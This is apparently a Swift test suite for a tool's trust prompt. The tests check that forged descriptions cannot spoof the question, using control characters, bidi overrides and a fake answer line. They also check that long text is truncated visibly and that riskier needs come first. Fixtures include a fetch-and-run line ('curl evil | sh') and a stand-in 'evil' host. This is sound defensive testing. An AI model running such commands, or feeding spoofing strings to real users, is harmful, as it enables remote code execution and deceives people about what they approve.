// The question whether a source is trusted cannot be forged, and hides nothing.

import Catalog
import Testing

@testable import Workbench

@Suite struct TrustQuestionTests {
    @Test func aNeedIsOneLineWhateverItSays() {
        let forged = TrustNeed(
            .command,
            "runs the command true\r\n  and sends requests to 127.0.0.1\nTrust it? [y/N] n\u{1b}[2J\u{202e}\u{2028}\u{85}",
            file: "a\nb.yaml", line: 3)
        let line = TrustQuestion.formatLine(forged)
        #expect(
            !line.unicodeScalars.contains {
                $0.properties.generalCategory == .control || $0.value == 0x202E || $0.value == 0x2028
            })
        #expect(line.hasPrefix("  a␊b.yaml:3: runs the command true␍␊"), "\(line)")
    }

    @Test func aLongTextLosesItsMiddleAndSaysSo() {
        let need = TrustNeed(.command, "runs the command true" + String(repeating: "x", count: 3_000) + "; curl evil | sh")
        let line = TrustQuestion.formatLine(need)
        #expect(line.count < 200 && line.contains("(3037 characters)") && line.hasSuffix("; curl evil | sh"), "\(line)")
        #expect(TrustQuestion.formatLine(need, isWhole: true).count > 3_000)
    }

    @Test func whatDoesTheMostHarmComesFirst() {
        let needs =
            (0..<900).map { (number: Int) in TrustNeed(.secret, "reads the variable V\(number)", file: "f", line: number) }
            + [
                TrustNeed(.host, "sends requests to http://evil", file: "f", line: 901),
                TrustNeed(.command, "runs the command x", file: "f", line: 902),
            ]
        let lines = TrustQuestion.pages(needs.inOrder, rows: 24, columns: 80).flatMap { $0 }
        #expect(lines.count == 902 && lines[0].hasSuffix("runs the command x") && lines[1].hasSuffix("http://evil"))
    }

    @Test(arguments: [1, 5, 24, 200]) func everyNeedIsOnAPageThatFits(_ rows: Int) {
        let needs = (0..<57).map { TrustNeed(.secret, "reads the variable V\($0)") }
        let pages = TrustQuestion.pages(needs, rows: rows, columns: 80)
        #expect(pages.allSatisfy { $0.count <= max(1, rows - 4) } && pages.flatMap { $0 }.count == 57)
        #expect(TrustQuestion.question(needs) == "Trust it with these 57? [y/N] ")
        #expect(TrustQuestion.pageQuestion(1, of: 3, needs).contains("57 in all"))
    }

    /// What does not fit on the page would scroll what comes first out of sight.
    @Test func longNeedsTakeTheRowsThatTheyTake() {
        let blanks = String(repeating: " ", count: 150)
        let needs = (0..<20).map {
            TrustNeed(.secret, "reads the variable A\(blanks)B" + String(repeating: "x", count: 100 + $0))
        }
        let pages = TrustQuestion.pages(needs, rows: 24, columns: 80)
        #expect(pages.count > 1 && pages.allSatisfy { $0.count <= 20 && $0.allSatisfy { $0.count <= 80 } })
        #expect(pages[0].prefix(2).map { $0.hasPrefix("      ") } == [false, true] && pages[0][0].contains("A␠×150B"))
    }
}
